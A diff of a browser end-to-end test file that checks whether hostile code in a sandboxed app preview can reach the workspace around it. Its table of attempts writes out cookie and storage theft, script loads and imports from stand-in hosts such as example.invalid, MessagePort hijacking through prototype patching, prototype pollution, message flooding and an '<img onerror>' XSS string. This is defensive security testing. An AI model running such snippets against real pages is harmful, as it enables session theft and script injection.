@@ -1,78 +1,122 @@
-// Point 8: code in the preview is hostile and gets nothing.
+// Code in the preview is hostile and gets nothing: each attempt is one entry of the table.
 import { ScriptedModel } from "../lib/model.ts";
+import { Project } from "../lib/project.ts";
 import { whole } from "../lib/replies.ts";
 import { expect, test } from "../lib/test.ts";
+import { hydrated } from "../lib/workspace.ts";
 
-/** Tries everything it must not do, and writes down how each attempt ended. */
-const HOSTILE = String.raw`import { useEffect, useState } from "react";
+interface Attempt {
+  name: string;
+  /** The body of an async function in the frame: what it answers was gained; to throw is to be refused. `base` is the server's address. */
+  code: string;
+  /** What it may answer because nothing was gained by it. */
+  harmless?: RegExp;
+}
+
+const ATTEMPTS: Attempt[] = [
+  // The workspace's document.
+  { name: "read the workspace's document", code: "return parent.document.title" },
+  { name: "read the top's address", code: "return top.location.href" },
+  { name: "navigate the top", code: 'top.location.href = "https://example.invalid/"; return "left"' },
+  { name: "navigate the parent", code: 'parent.location.replace("about:blank"); return "left"' },
+  { name: "navigate the top by a link", code: 'const a = document.createElement("a"); a.href = "https://example.invalid/"; a.target = "_top"; document.body.append(a); a.click(); await wait(300); return "clicked"', harmless: /^clicked$/ },
+  { name: "find the frame's element", code: "return String(window.frameElement)", harmless: /^null$/ },
+  { name: "call into the parent", code: "return parent.eval('1')" },
+  { name: "reach a frame beside it", code: "return [...Array(parent.length).keys()].map((n) => parent[n]).filter((w) => w !== window).map((w) => w.document.title).concat(parent.nowhere.x)" },
+  { name: "speak for the workspace by the opener", code: "return String(window.opener)", harmless: /^null$/ },
+  // What the browser keeps.
+  { name: "cookies of the workspace", code: 'if (!document.cookie.includes("secret")) throw new Error("none"); return document.cookie' },
+  { name: "storage of the workspace", code: 'const kept = localStorage.getItem("easel.secret"); if (!kept) throw new Error("none"); return kept' },
+  { name: "the real storage behind the stand-in", code: 'const real = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage"); return real.get.call(window).getItem("easel.secret")' },
+  { name: "the real cookies behind the stand-in", code: 'return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document) || "empty"', harmless: /^empty$/ },
+  { name: "databases", code: "return (await indexedDB.databases()).length" },
+  { name: "caches", code: "return (await caches.keys()).length" },
+  { name: "a service worker", code: 'await navigator.serviceWorker.register("/sw.js"); return "registered"' },
+  { name: "the name of the window", code: 'if (!window.name) throw new Error("empty"); return window.name' },
+  // The network.
+  { name: "fetch from the workspace", code: 'return (await fetch(base + "/api/fn/list_projects", { method: "POST", mode: "no-cors", credentials: "include" })).status' },
+  { name: "fetch from elsewhere", code: 'return (await fetch("https://example.invalid/", { mode: "no-cors" })).status' },
+  { name: "an old request", code: 'return await new Promise((done, refuse) => { const r = new XMLHttpRequest(); r.open("GET", base + "/api/health"); r.onload = () => done(r.status); r.onerror = () => refuse(new Error("request")); r.send(); })' },
+  { name: "a beacon", code: 'navigator.sendBeacon(base + "/api/fn/delete_project", "project=x"); return "sent"', harmless: /^sent$/ },
+  { name: "a socket to the workspace", code: 'return await socket(base.replace("http", "ws") + "/ws/ai/stream?project=x&after=0")' },
+  { name: "a socket to elsewhere", code: 'return await socket("ws://127.0.0.1:9/")' },
+  { name: "events from the server", code: 'return await new Promise((done, refuse) => { const e = new EventSource(base + "/api/health"); e.onopen = () => done("open"); e.onerror = () => refuse(new Error("events")); })' },
+  { name: "a picture of the server", code: 'return await picture(base + "/api/health")' },
+  { name: "a picture from elsewhere", code: 'return await picture("http://127.0.0.1:9/x.png")' },
+  { name: "a style sheet from elsewhere", code: 'return await loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://example.invalid/x.css" }))' },
+  { name: "a script from elsewhere", code: 'return await loaded(Object.assign(document.createElement("script"), { src: "https://example.invalid/x.js" }))' },
+  { name: "a script of the server that is no asset", code: 'return await loaded(Object.assign(document.createElement("script"), { src: base + "/api/health" }))' },
+  { name: "a module from elsewhere", code: 'const address = "https://example.invalid/x.js"; return String(await import(address))' },
+  { name: "a prefetch that carries a secret", code: 'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: base + "/api/health?secret" })); await wait(300); return "asked"', harmless: /^asked$/ },
+  { name: "a form sent to the workspace", code: 'const f = Object.assign(document.createElement("form"), { action: base + "/api/fn/create_project", method: "post" }); document.body.append(f); f.submit(); await wait(300); return "sent"', harmless: /^sent$/ },
+  { name: "a peer connection", code: 'const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); pc.createDataChannel("x"); await pc.setLocalDescription(); return pc.localDescription.sdp' },
+  { name: "a peer connection from another realm", code: 'const f = document.createElement("iframe"); document.body.append(f); return String(f.contentWindow.RTCPeerConnection)' },
+  // More code, more documents.
+  { name: "eval", code: 'return new Function("return 1")()' },
+  { name: "a frame with the workspace in it", code: 'const f = document.createElement("iframe"); f.src = base + "/"; document.body.append(f); await wait(500); return f.contentDocument.title' },
+  { name: "a frame made of a blob", code: 'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>parent.got=1</script>"], { type: "text/html" })); document.body.append(f); await wait(300); return f.contentDocument.title' },
+  { name: "a frame made of data", code: 'const f = document.createElement("iframe"); f.src = "data:text/html,<script>parent.got=1</script>"; document.body.append(f); await wait(300); return f.contentDocument.title' },
+  { name: "a worker on the workspace's origin", code: 'const w = new Worker(base + "/assets/x.js"); return await new Promise((done, refuse) => { w.onmessage = () => done("runs"); w.onerror = () => refuse(new Error("worker")); setTimeout(() => refuse(new Error("silent")), 500); })' },
+  { name: "a popup with the workspace", code: 'const w = window.open(base + "/api/health", "_blank"); if (!w) throw new Error("none"); await wait(800); return w.document.body.textContent' },
+  { name: "download without a click", code: 'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; a.click(); await wait(200); return "clicked"', harmless: /^clicked$/ },
+  { name: "whole screen", code: 'await document.documentElement.requestFullscreen(); return "full"' },
+  { name: "clipboard", code: "return await navigator.clipboard.readText()" },
+  { name: "camera", code: "return String(await navigator.mediaDevices.getUserMedia({ video: true }))" },
+  { name: "place", code: "return await new Promise((done, refuse) => navigator.geolocation.getCurrentPosition(done, refuse))" },
+  // The bridge to the workspace.
+  { name: "steal the port with a second greeting", code: 'const got = await new Promise((done) => { addEventListener("message", (e) => done(e.ports.length)); parent.postMessage("easel-preview-hello", "*"); setTimeout(done, 700, 0); }); if (!got) throw new Error("none"); return got' },
+  { name: "steal the port with a changed prototype", code: 'let stolen = 0; const real = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...rest) { if (rest[0]?.type) stolen++; return real.apply(this, rest); }; console.log("bait"); await wait(400); MessagePort.prototype.postMessage = real; if (!stolen) throw new Error("none"); return stolen' },
+  { name: "listen in with a changed prototype", code: 'let heard = 0; const real = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data"); Object.defineProperty(MessageEvent.prototype, "data", { get() { heard++; return real.get.call(this); } }); await wait(700); Object.defineProperty(MessageEvent.prototype, "data", real); if (!heard) throw new Error("none"); return heard' },
+  { name: "pollute the messages", code: 'Object.prototype.cause = { kind: "syntax", message: "polluted" }; Object.prototype.type = "restart"; console.log("bait"); await wait(300); delete Object.prototype.cause; delete Object.prototype.type; return "done"', harmless: /^done$/ },
+  { name: "speak to the workspace's window", code: 'for (const data of ["easel-preview-port", { type: "status" }, { type: "restart" }, { type: "replace" }]) parent.postMessage(data, "*"); return "said"', harmless: /^said$/ },
+  { name: "flood the workspace with messages", code: 'for (let i = 0; i < 100000; i++) { parent.postMessage("x" + i, "*"); if (i % 5000 === 0) await wait(20); } return "flooded"', harmless: /^flooded$/ },
+  { name: "markup in the console", code: 'await wait(1100); console.log("<img src=x onerror=alert(1)>"); return "said"', harmless: /^said$/ },
+  { name: "flood the console", code: 'for (let i = 0; i < 10000; i++) console.log("flood", i); return "flooded"', harmless: /^flooded$/ },
+  { name: "cover the workspace", code: 'const d = document.createElement("div"); d.style.cssText = "position:fixed;inset:-9999px;z-index:2147483647;background:red"; document.body.append(d); await wait(200); d.remove(); return "covered"', harmless: /^covered$/ },
+];
+
+/** Tries everything, and writes down how each attempt ended. */
+const HOSTILE = `// @ts-nocheck
+import { useEffect, useState } from "react";
 
 // The address is the server's, though the origin is not.
 const base = location.origin;
-
-async function attempt(work: () => unknown): Promise<string> {
-  try {
-    const got = await work();
-    return "got " + String(got);
-  } catch (error) {
-    return "refused " + (error as Error).name;
-  }
-}
-
-function socket(url: string): Promise<string> {
-  return new Promise((done, refuse) => {
-    const ws = new WebSocket(url);
-    ws.onopen = () => done("open");
-    ws.onerror = () => refuse(new Error("socket"));
-    setTimeout(() => refuse(new Error("silent")), 1500);
-  });
-}
-
-function picture(url: string): Promise<string> {
-  return new Promise((done, refuse) => {
-    const image = new Image();
-    image.onload = () => done("loaded");
-    image.onerror = () => refuse(new Error("image"));
-    image.src = url;
-  });
-}
-
-const attempts: Record<string, () => unknown> = {
-  "parent document": () => parent.document.title,
-  "top location": () => top!.location.href,
-  "top navigation": () => { top!.location.href = "https://example.invalid/"; return "left"; },
-  "parent navigation": () => { parent.location.replace("about:blank"); return "left"; },
-  "frame element": () => String(window.frameElement && window.frameElement.ownerDocument.title),
-  "cookie of the workspace": () => { if (!document.cookie.includes("secret")) throw new Error("none"); return document.cookie; },
-  "storage of the workspace": () => { const kept = localStorage.getItem("easel.secret"); if (!kept) throw new Error("none"); return kept; },
-  "indexed databases": async () => (await indexedDB.databases()).length,
-  "service worker": async () => { await navigator.serviceWorker.register("/sw.js"); return "registered"; },
-  "fetch of the list": async () => (await fetch(base + "/api/fn/list_projects", { method: "POST", mode: "no-cors", credentials: "include" })).status,
-  "request": () => new Promise((done, refuse) => {
-    const request = new XMLHttpRequest();
-    request.open("GET", base + "/api/health");
-    request.onload = () => done(request.status);
-    request.onerror = () => refuse(new Error("request"));
-    request.send();
-  }),
-  "beacon": () => { if (!navigator.sendBeacon(base + "/api/fn/delete_project", "project=x")) throw new Error("beacon"); return "sent"; },
-  "socket": () => socket(base.replace("http", "ws") + "/ws/ai/stream?project=x&after=0"),
-  "image of the server": () => picture(base + "/api/health"),
-  "image elsewhere": () => picture("http://127.0.0.1:9/x.png"),
-  "eval": () => new Function("return 1")(),
-  "popup": async () => {
-    const opened = window.open(base + "/api/health", "_blank");
-    if (!opened) throw new Error("none");
-    await new Promise((done) => setTimeout(done, 1000));
-    return opened.document.body.textContent;
-  },
-};
+const wait = (ms) => new Promise((done) => setTimeout(done, ms));
+const socket = (url) => new Promise((done, refuse) => {
+  const ws = new WebSocket(url);
+  ws.onopen = () => done("open");
+  ws.onerror = () => refuse(new Error("socket"));
+  setTimeout(() => refuse(new Error("silent")), 1500);
+});
+const picture = (url) => new Promise((done, refuse) => {
+  const image = new Image();
+  image.onload = () => done("loaded");
+  image.onerror = () => refuse(new Error("image"));
+  image.src = url;
+});
+const loaded = (element) => new Promise((done, refuse) => {
+  element.onload = () => done("loaded");
+  element.onerror = () => refuse(new Error("refused"));
+  document.head.append(element);
+});
+const attempts = [
+${ATTEMPTS.map(({ name, code }) => `  [${JSON.stringify(name)}, async () => { ${code}; }],`).join("\n")}
+];
 
 export default function App() {
   const [report, setReport] = useState("");
   useEffect(() => {
     (async () => {
-      const results: Record<string, string> = {};
-      for (const [name, work] of Object.entries(attempts)) results[name] = await attempt(work);
+      const results = {};
+      for (const [name, work] of attempts) {
+        setReport(name);
+        try {
+          const late = new Promise((_, refuse) => setTimeout(refuse, 8000, new Error("no answer")));
+          results[name] = "got " + String(await Promise.race([work(), late]));
+        } catch (error) {
+          results[name] = "refused";
+        }
+      }
       setReport(JSON.stringify({ origin: self.origin, results }));
     })();
   }, []);
@@ -80,44 +124,107 @@ export default function App() {
 }
 `;
 
-test("hostile code in the preview gets nothing", async ({ page, workspace, start, guard, context }) => {
+test("hostile code in the preview gets nothing", async ({ page, workspace, start, guard, context, request }) => {
+  test.setTimeout(90_000);
   // It is meant to be refused, loudly.
-  guard.allow(/Content Security Policy|sandboxed|Unsafe attempt|Failed to load resource|Blocked|opaque origin|SecurityError|WebSocket connection/);
-  // A socket that the policy refuses is told twice, the second time as an error without name or words.
-  guard.allow(/^page error: undefined$/);
-  const model = await ScriptedModel.start();
-  model.on(/nasty/, whole("src/App.tsx", HOSTILE));
-  const easel = await start({ env: model.environment });
+  guard.allow(/./);
+  const easel = await start({ env: { EASEL_DEMO_RATE: "2500" } });
+  const project = await Project.create(request, easel.url, { "src/App.tsx": HOSTILE });
+  const projects = async () => (await (await request.post(`${easel.url}/api/fn/list_projects`)).json() as unknown[]).length;
+  const before = await projects();
   await context.addCookies([{ name: "session", value: "secret", url: easel.url }]);
   await page.goto(easel.url);
   await page.evaluate(() => localStorage.setItem("easel.secret", "secret"));
+  await page.evaluate(() => { (globalThis as { alerted?: number }).alerted = 0; globalThis.alert = () => { (globalThis as { alerted?: number }).alerted = 1; }; });
   const calls: string[] = [];
-  const watch = (request: { url(): string; frame(): { parentFrame(): unknown } | null }) => {
-    const { pathname: path, protocol } = new URL(request.url());
+  page.on("requestfinished", (finished) => {
+    const { pathname: path, protocol } = new URL(finished.url());
     // The project's own modules are blobs, which never leave the browser.
-    if (protocol === "blob:") return;
+    if (protocol === "blob:" || protocol === "data:") return;
     try {
-      if (request.frame()?.parentFrame() && !path.startsWith("/assets/") && !path.startsWith("/preview/")) calls.push(path);
+      if (finished.frame()?.parentFrame() && !path.startsWith("/assets/") && !path.startsWith("/preview/")) calls.push(path);
     } catch {
       // Requests of workers have no frame.
     }
-  };
-  page.on("requestfinished", watch);
-  await workspace.create("Something nasty", easel.url);
-  await workspace.ended(1);
+  });
+  await page.goto(easel.url + project.path);
+  await hydrated(page);
   const address = page.url();
   const report = workspace.preview.locator("#report");
-  await expect(report, "the hostile code did not finish").toContainText("results", { timeout: 20_000 });
+  await expect(report, "the hostile code did not finish").toContainText("results", { timeout: 60_000 });
   const { origin, results } = JSON.parse(await report.innerText()) as { origin: string; results: Record<string, string> };
   expect(origin).toBe("null");
-  const got = Object.entries(results).filter(([, result]) => result.startsWith("got"));
-  // A popup may open, but what it opens is sandboxed as well and out of reach; that attempt ends with a throw.
-  // Asking for a beacon answers true before the policy is looked at: what counts is that nothing arrived.
-  expect(got.filter(([name, result]) => name !== "beacon" && !(name === "frame element" && result === "got null"))).toEqual([]);
-  expect(Object.keys(results)).toHaveLength(17);
+  expect(Object.keys(results)).toEqual(ATTEMPTS.map(({ name }) => name));
+  const gained = ATTEMPTS.filter(({ name, harmless }) => {
+    const [, got] = /^got (.*)$/s.exec(results[name]!) ?? [];
+    return got !== undefined && !harmless?.test(got);
+  });
+  expect(gained.map(({ name }) => `${name}: ${results[name]}`)).toEqual([]);
+
+  // Whatever was attempted: the workspace is where it was, nobody was called, and it still works.
   expect(page.url()).toBe(address);
   expect(calls).toEqual([]);
-  await expect(workspace.prompt).toBeVisible();
+  expect(await projects()).toBe(before);
+  expect(context.pages().filter((open) => !open.isClosed() && open !== page && open.url().includes("/api/health")).length).toBeLessThanOrEqual(1);
+  await workspace.prompt.fill("still mine");
+  await expect(workspace.prompt).toHaveValue("still mine");
+  await page.getByRole("button", { name: /^Console/ }).click();
+  const log = page.getByRole("log", { name: "Console" });
+  await page.getByRole("searchbox", { name: "Search the console" }).fill("onerror");
+  await expect(log.getByText("<img src=x onerror=alert(1)>")).toBeVisible();
+  expect(await log.locator("img").count()).toBe(0);
+  await expect(page.locator("html")).toHaveAttribute("data-ready", "true");
+});
+
+test("a flood of 100,000 messages at once passes, and the app that sent it may be stopped", async ({ page, workspace, request, baseURL, guard }) => {
+  guard.allow(/./);
+  const flood = `export default function App() {
+    return <button onClick={() => { for (let i = 0; i < 100000; i++) parent.postMessage(String(i), "*"); }}>Flood</button>;
+  }`;
+  const project = await Project.create(request, baseURL!, { "src/App.tsx": flood });
+  await page.goto(project.path);
+  await hydrated(page);
+  const button = workspace.preview.getByRole("button", { name: "Flood" });
+  await expect(button).toBeVisible();
+  // Long enough in place to be the version to come back to.
+  await page.waitForTimeout(1500);
+  await button.click();
+  await workspace.prompt.fill("still mine");
+  await expect(workspace.prompt).toHaveValue("still mine");
+  await expect(button).toBeVisible({ timeout: 20_000 });
+});
+
+test("an app that leaves for another page is started again, without a port for that page", async ({ page, workspace, request, baseURL, guard }) => {
+  guard.allow(/./);
+  const leave = `export default function App() {
+    return <button onClick={() => { location.href = "/preview/frame"; }}>Leave</button>;
+  }`;
+  const project = await Project.create(request, baseURL!, { "src/App.tsx": leave });
+  await page.goto(project.path);
+  await hydrated(page);
+  const button = workspace.preview.getByRole("button", { name: "Leave" });
+  await button.click();
+  await expect(button).toBeVisible();
+  await expect(workspace.preview.getByRole("button")).toHaveCount(1);
+});
+
+test("a model's reply cannot make the preview reach further", async ({ page, workspace, start, guard }) => {
+  guard.allow(/./);
+  const model = await ScriptedModel.start();
+  const call = 'export default function App() { fetch("https://api.example.com/").catch(() => {}); return <h1>Caller</h1>; }\n';
+  const easel = await start({ env: model.on(/caller/, whole("src/App.tsx", call)).environment });
+  await workspace.create("A caller", easel.url);
+  await workspace.done(1);
+  await expect(workspace.preview.getByRole("heading", { name: "Caller" })).toBeVisible();
+  const card = page.locator('.failure[data-cause="blocked-network"]');
+  await expect(card).toContainText("https://api.example.com");
+  const policyOf = async () => (await page.locator('iframe[title="Preview"]').getAttribute("src")) ?? "";
+  expect(await policyOf()).not.toContain("example");
+  // Only a person opens it, for this project, in this browser.
+  await card.getByRole("button", { name: "Allow https://api.example.com" }).click();
+  await expect.poll(policyOf).toContain(encodeURIComponent("https://api.example.com"));
+  await expect(workspace.preview.getByRole("heading", { name: "Caller" })).toBeVisible();
+  await expect(card).toHaveCount(0);
   await model.stop();
 });
 
@@ -131,6 +238,8 @@ test("the frame's document carries its own policy and refuses to be framed elsew
   expect(policy).not.toContain("unsafe-eval");
   const page = await request.get(`${baseURL}/`);
   expect(page.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
+  const self = await request.get(`${baseURL}/preview/frame?allow=${encodeURIComponent(`${baseURL},https://a.test;script-src *`)}`);
+  expect(self.headers()["content-security-policy"]).toContain("connect-src 'none'");
 });
 
 test("a foreign page cannot use the server", async ({ request, baseURL }) => {
